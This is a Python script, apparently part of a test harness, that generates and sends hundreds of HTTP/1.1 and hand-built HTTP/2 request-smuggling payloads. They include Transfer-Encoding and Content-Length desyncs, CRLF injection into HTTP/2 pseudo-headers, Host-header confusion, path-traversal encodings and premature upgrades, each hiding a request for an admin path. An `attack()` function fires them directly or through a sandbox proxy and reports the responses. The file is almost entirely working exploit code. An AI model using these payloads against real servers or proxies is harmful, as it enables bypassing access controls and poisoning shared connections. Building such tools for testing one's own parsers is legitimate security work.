# Requests that two readers read differently, each with another one hidden in it. Runs behind the preludes of `probe.rs` and
# `net.rs`. A case is (name, reading, bytes): `reading` is how badly the server of `tests/internet/naive.py` has to read so
# that the hidden request works on it. What is hidden bears the word `evil-MARK-CASE` in its path or host.
import concurrent.futures

def tag(mark, case):
    return "evil-%s-%s" % (mark, case)

def hidden(host, mark, case):
    return ("GET /admin/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (tag(mark, case), host)).encode()

def first(host, mark, case, reading, *fields, line="GET {} HTTP/1.1", end="\r\n"):
    path = "/public/%s/%s-%s" % (reading, mark, case)
    head = [line.format(path), "Host: " + host, *fields, "", ""]
    return end.join(head).encode("latin-1")

# Spellings of a header that some read as chunked, and others not at all.
CODINGS = {
    "plain": "Transfer-Encoding: chunked", "tab": "Transfer-Encoding:\tchunked", "x": "Transfer-Encoding: xchunked",
    "space": "Transfer-Encoding : chunked", "fold": "X: y\r\n Transfer-Encoding: chunked", "lead": " Transfer-Encoding: chunked",
    "list": "Transfer-Encoding: identity, chunked", "tail": "Transfer-Encoding: chunked, identity",
    "quotes": "Transfer-Encoding: \"chunked\"", "vt": "Transfer-Encoding: \x0bchunked", "nul": "Transfer-Encoding: chunked\x00",
    "under": "Transfer_Encoding: chunked", "param": "Transfer-Encoding: chunked;q=1", "cr": "X: y\rTransfer-Encoding: chunked",
    "lf": "X: y\nTransfer-Encoding: chunked", "name": "\x00Transfer-Encoding: chunked",
    "twice": "Transfer-Encoding: chunked\r\nTransfer-encoding: cow", "cow": "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "below": "Transfer-Encoding:\r\n chunked", "comma": "Transfer-Encoding: ,chunked",
}
# Lengths of which one reader believes one and another reader none or the other: how it reads, and the headers.
LENGTHS = {
    "both": ("cl", "Content-Length: 0\r\nContent-Length: {}"), "back": ("cl2", "Content-Length: {}\r\nContent-Length: 0"),
    "list": ("cl", "Content-Length: 0, {}"), "sign": ("none", "Content-Length: +{}"), "hex": ("cl", "Content-Length: 0x{}"),
    "space": ("none", "Content-Length : {}"), "fold": ("none", "Content-Length:\r\n {}"), "under": ("cl", "Content_Length: 0\r\nContent-Length: {}"),
    "vt": ("none", "Content-Length: \x0b{}"), "hop": ("none", "Connection: keep-alive, Content-Length\r\nContent-Length: {}"),
    "zero": ("none", "Content-Length: {}"), "same": ("none", "Content-Length: {0}\r\nContent-Length: {0}"),
    "expect": ("none", "Expect: 100-continue\r\nContent-Length: {}"), "minus": ("cl", "Content-Length: -0\r\nContent-Length: {}"),
}
# Chunks that end earlier for some.
CHUNKS = {
    "extension": ("te", "0;\n\r\n"), "hex": ("te", "0x0\r\n\r\n"), "space": ("te", " 0\r\n\r\n"), "sign": ("te", "-0\r\n\r\n"), "plus": ("te", "+0\r\n\r\n"),
    "overflow": ("te32", "100000000\r\n\r\n"), "lf": ("te", "0\n\n"), "end": ("te", "1\r\nAXX0\r\n\r\n"), "trailer": ("te0", "0\r\n"),
    "word": ("te", "zero\r\n\r\n"), "long": ("te", "1\r\nAB\r0\r\n\r\n"), "semicolon": ("te", "1;\nA\r\n0\r\n\r\n"),
}
# Lines that are requests to some.
LINES = {
    "old": "GET /admin/{0}\r\n", "tab": "GET\t/admin/{0}\tHTTP/1.1\r\nHost: {1}\r\n\r\n",
    "two": "GET /public/te/x /admin/{0} HTTP/1.1\r\nHost: {1}\r\n\r\n", "lower": "GET /admin/{0} http/1.1\r\nHost: {1}\r\n\r\n",
    "lf": "GET /admin/{0} HTTP/1.1\nHost: {1}\n\n", "blank": "\r\n\r\nGET /admin/{0} HTTP/1.1\r\nHost: {1}\r\n\r\n",
    "nul": "GET /admin/{0}\x00 HTTP/1.1\r\nHost: {1}\r\n\r\n", "absolute": "GET http://{0}.naive.test/public/te/x HTTP/1.1\r\nHost: {0}.naive.test\r\n\r\n",
    "absolute-own": "GET http://{1}/admin/{0} HTTP/1.1\r\nHost: {1}\r\n\r\n", "other": "GET /public/te/x HTTP/1.1\r\nHost: {0}.naive.test\r\n\r\n",
    "absolute-other": "GET http://{0}.naive.test/public/te/x HTTP/1.1\r\nHost: {1}\r\n\r\n",
    "twice": "GET /public/te/x HTTP/1.1\r\nHost: {1}\r\nHost: {0}.naive.test\r\n\r\n", "user": "GET /public/te/x HTTP/1.1\r\nHost: {1}@{0}.naive.test\r\n\r\n",
    "list": "GET /public/te/x HTTP/1.1\r\nHost: {1}, {0}.naive.test\r\n\r\n", "fold": "GET /public/te/x HTTP/1.1\r\nHost: {1}\r\n {0}.naive.test\r\n\r\n",
    "spaced": "GET /public/te/x HTTP/1.1\r\nHost: {1}\r\nHost : {0}.naive.test\r\n\r\n", "port": "GET /public/te/x HTTP/1.1\r\nHost: {1}:{0}\r\n\r\n",
}
# Paths that are others to some.
PATHS = {
    "dots": "/public/../admin/{}", "encoded": "/public/%2e%2e/admin/{}", "half": "/public/.%2E/admin/{}", "slash": "/public/..%2fadmin/{}",
    "slashes": "/public%2f..%2fadmin/{}", "back": "/public/..\\admin/{}", "backs": "/public/..%5cadmin/{}", "double": "/public/%252e%252e/admin/{}",
    "param": "/public/..;/admin/{}", "empty": "/public/..//admin/{}", "nul": "/public/..%00/admin/{}", "line": "/public/%0d%0a/../admin/{}",
    "wide": "/public/%c0%ae%c0%ae/admin/{}", "fragment": "/admin/{}#/../public/x", "absolute": "//public/../admin/{}",
}
# Other protocols, before anybody agreed to them.
UPGRADES = {
    "websocket": "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    "h2c": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "other": "Connection: Upgrade\r\nUpgrade: foo",
    "many": "Connection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: foo", "alone": "Upgrade: websocket", "tls": "Connection: Upgrade\r\nUpgrade: TLS/1.2",
}

def cases(host, mark):
    def add(name, reading, *fields, body=b"", **options):
        made.append((name, first(host, mark, name, reading, *fields, **options) + body))
    made = []
    for word, field in CODINGS.items():
        body = b"0\r\n\r\n" + hidden(host, mark, "te-" + word)
        add("te-" + word, "te", "Content-Length: %d" % len(body), field, body=body)
        body = b"0\r\n\r\n" + hidden(host, mark, "et-" + word)
        add("et-" + word, "te", field, "Content-Length: %d" % len(body), body=body)
    for word in ("plain", "space", "x"):
        inner = hidden(host, mark, "cl-" + word)
        size = b"%x\r\n" % len(inner)
        add("cl-" + word, "cl", "Content-Length: %d" % len(size), CODINGS[word], body=size + inner + b"\r\n0\r\n\r\n")
    for word, (reading, field) in LENGTHS.items():
        inner = hidden(host, mark, "length-" + word)
        add("length-" + word, reading, field.format(len(inner)), body=inner)
    for word, (reading, chunks) in CHUNKS.items():
        add("chunk-" + word, reading, "Transfer-Encoding: chunked", body=chunks.encode() + hidden(host, mark, "chunk-" + word))
    add("chunk-none", "none", "Transfer-Encoding: chunked", body=b"0\r\n\r\n"[:0] + b"%x\r\n" % len(hidden(host, mark, "chunk-none"))
        + hidden(host, mark, "chunk-none") + b"\r\n0\r\n\r\n")
    add("te-one-zero", "te", "Connection: keep-alive", "Transfer-Encoding: chunked", line="GET {} HTTP/1.0",
        body=b"0\r\n\r\n" + hidden(host, mark, "te-one-zero"))
    add("pipelined", "te", body=hidden(host, mark, "pipelined"))
    add("pipelined-lf", "te", end="\n", body=hidden(host, mark, "pipelined-lf"))
    add("after-head", "te", "X: \r\n", body=hidden(host, mark, "after-head"))
    for word, field in UPGRADES.items():
        add("upgrade-" + word, "none", field, body=hidden(host, mark, "upgrade-" + word))
    for word, line in LINES.items():
        text = line.format(tag(mark, "line-" + word), host).encode("latin-1")
        made.append(("line-" + word, text))
        add("next-" + word, "te", body=line.format(tag(mark, "next-" + word), host).encode("latin-1"))
    for word, path in PATHS.items():
        text = "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path.format(tag(mark, "path-" + word)), host)
        made.append(("path-" + word, text.encode()))
    return made

# HTTP/2, made by hand: nothing is compressed, and nothing is checked.
def number(value, bits, head=0):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([head | value])
    out, value = bytes([head | limit]), value - limit
    while value > 127:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])

def packed(fields):
    def text(value):
        value = value if isinstance(value, bytes) else value.encode("latin-1")
        return number(len(value), 7) + value
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields)

def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body

def stream(fields, body=b"", number=1):
    head = frame(1, 4 if body else 5, number, packed(fields))
    return head + (frame(0, 1, number, body) if body else b"")

def cases2(host, mark):
    made = []
    def add(name, reading="te", body=b"", extra=(), **changed):
        fields = {"method": "GET", "path": "/public/%s/%s-%s" % (reading, mark, name), "authority": host, "scheme": "https"}
        fields.update(changed)
        made.append((name, stream([(":" + key, value) for key, value in fields.items() if value is not None] + list(extra), body)))
    def inner(name):
        return hidden(host, mark, name)
    def split(name):
        return inner(name).decode()[:-4]
    path = "/public/te/%s" % mark
    add("h2-cl-zero", "cl", inner("h2-cl-zero"), [("content-length", "0")])
    add("h2-cl-less", "cl", b"xxx" + inner("h2-cl-less"), [("content-length", "3")])
    add("h2-cl-twice", "cl", inner("h2-cl-twice"), [("content-length", "0"), ("content-length", str(len(inner("h2-cl-twice"))))])
    add("h2-cl-word", "cl", inner("h2-cl-word"), [("content-length", "zero")])
    add("h2-none", "none", inner("h2-none"))
    add("h2-te", "te", b"0\r\n\r\n" + inner("h2-te"), [("transfer-encoding", "chunked")])
    add("h2-te-upper", "te", b"0\r\n\r\n" + inner("h2-te-upper"), [("Transfer-Encoding", "chunked")])
    add("h2-te-under", "te", b"0\r\n\r\n" + inner("h2-te-under"), [("transfer_encoding", "chunked")])
    add("h2-te-space", "te", b"0\r\n\r\n" + inner("h2-te-space"), [("transfer-encoding ", "chunked")])
    add("h2-connection", "none", inner("h2-connection"), [("connection", "content-length")])
    add("h2-upgrade", "none", inner("h2-upgrade"), [("upgrade", "websocket")])
    add("h2-value-crlf", extra=[("x", "y\r\n\r\n" + split("h2-value-crlf"))])
    add("h2-value-lf", extra=[("x", "y\n\n" + split("h2-value-lf"))])
    add("h2-value-cr", extra=[("x", "y\r\r" + split("h2-value-cr"))])
    add("h2-value-te", "te", b"0\r\n\r\n" + inner("h2-value-te"), [("x", "y\r\ntransfer-encoding: chunked")])
    add("h2-name-crlf", extra=[("x: y\r\n\r\n" + split("h2-name-crlf") + "\r\nx", "y")])
    add("h2-name-te", "te", b"0\r\n\r\n" + inner("h2-name-te"), [("x: y\r\ntransfer-encoding", "chunked")])
    add("h2-path-crlf", path=path + " HTTP/1.1\r\nHost: %s\r\n\r\n" % host + split("h2-path-crlf") + "\r\nX: ")
    add("h2-path-space", path="/admin/" + tag(mark, "h2-path-space") + " HTTP/1.1\r\nx:")
    add("h2-method-crlf", method="GET %s HTTP/1.1\r\nHost: %s\r\n\r\n%s\r\n\r\nGET" % (path, host, split("h2-method-crlf")))
    add("h2-method-space", method="GET /admin/" + tag(mark, "h2-method-space") + " HTTP/1.1\r\nx:")
    add("h2-authority-crlf", authority=host + "\r\n\r\n" + split("h2-authority-crlf"))
    add("h2-authority-other", authority=tag(mark, "h2-authority-other") + ".naive.test")
    add("h2-host-other", extra=[("host", tag(mark, "h2-host-other") + ".naive.test")])
    add("h2-host-only", authority=None, extra=[("host", tag(mark, "h2-host-only") + ".naive.test")])
    add("h2-host-twice", extra=[("host", host), ("host", tag(mark, "h2-host-twice") + ".naive.test")])
    add("h2-user", authority=host + "@" + tag(mark, "h2-user") + ".naive.test")
    add("h2-path-twice", extra=[(":path", "/admin/" + tag(mark, "h2-path-twice"))])
    add("h2-path-dots", path="/public/../admin/" + tag(mark, "h2-path-dots"))
    add("h2-path-encoded", path="/public/%2e%2e/admin/" + tag(mark, "h2-path-encoded"))
    add("h2-path-absolute", path="https://%s.naive.test/public/te/x" % tag(mark, "h2-path-absolute"))
    add("h2-connect", method="CONNECT", path=None, scheme=None, authority=tag(mark, "h2-connect") + ".naive.test:443")
    first_and_second = [(":method", "GET"), (":path", path), (":authority", host), (":scheme", "https")]
    made.append(("h2-second", stream(first_and_second) + stream(
        [(":method", "GET"), (":path", "/admin/" + tag(mark, "h2-second")), (":authority", host), (":scheme", "https")], number=3)))
    return made

def talk(host, port, text, protocols, way="direct"):
    """Sends bytes, and tells what came back until the other side closed or had no more to say. `way`: `direct`, through the
    proxy of the sandbox by `CONNECT` (`tunnel`), or to that proxy itself (`absolute`)."""
    def attempt():
        place = (host, port) if way == "direct" else ("proxy.airlock", 3128)
        with socket.create_connection(place, 20) as plain:
            s = plain
            if way == "tunnel":
                s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, port, host, port)).encode())
                head = b""
                while b"\r\n\r\n" not in head:
                    data = s.recv(1)
                    if not data:
                        return "tunnel closed"
                    head += data
                if b" 200" not in head[:15]:
                    return head
            if port != 80:
                context = ssl.create_default_context()
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
                context.set_alpn_protocols(protocols)
                s = context.wrap_socket(plain, server_hostname=host)
                if s.selected_alpn_protocol() not in (*protocols, None) or (protocols == ["h2"] and not s.selected_alpn_protocol()):
                    return "protocol"
            if protocols == ["h2"]:
                text_ = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + text
            else:
                text_ = text
            s.sendall(text_)
            said = b""
            s.settimeout(8)
            try:
                while data := s.recv(65536):
                    said += data
                    s.settimeout(1)
            except (TimeoutError, OSError):
                pass
            return said
    return outcome(attempt)

def told(said):
    """The statuses of answers; of HTTP/2 the kinds of frames."""
    if isinstance(said, str):
        return said
    if said[:5] == b"HTTP/":
        return " ".join(part[:3].decode("latin-1") for part in said.split(b"HTTP/1.1 ")[1:]) or "answered"
    kinds = []
    while len(said) >= 9:
        size, kind = struct.unpack(">I", b"\0" + said[:3])[0], said[3]
        kinds.append({1: "head", 3: "reset", 7: "away"}.get(kind, ""))
        said = said[9 + size:]
    return " ".join(kind for kind in kinds if kind) or "nothing"

def attack(host, mark, ports=(80, 443), second=False, way="direct"):
    """Every case, over every port; prints what came of each."""
    good = ("GET /public/te/%s-good HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (mark, host)).encode()
    jobs = [(name, port, text, ["http/1.1"]) for name, text in [("good", good), *cases(host, mark)] for port in ports]
    if second:
        good = stream([(":method", "GET"), (":path", "/public/te/" + mark), (":authority", host), (":scheme", "https")])
        jobs = [(name, 443, text, ["h2"]) for name, text in [("good", good), *cases2(host, mark)]]
    if way == "absolute":
        absolute = b"GET http://%s/" % host.encode()
        jobs = [(name, port, text.replace(b"GET /", absolute), protocols) for name, port, text, protocols in jobs if port == 80]
    with concurrent.futures.ThreadPoolExecutor(24) as pool:
        results = pool.map(lambda job: talk(host, job[1], job[2], job[3], way), jobs)
        for (name, port, _, _), said in zip(jobs, results):
            say(name, port, told(said))
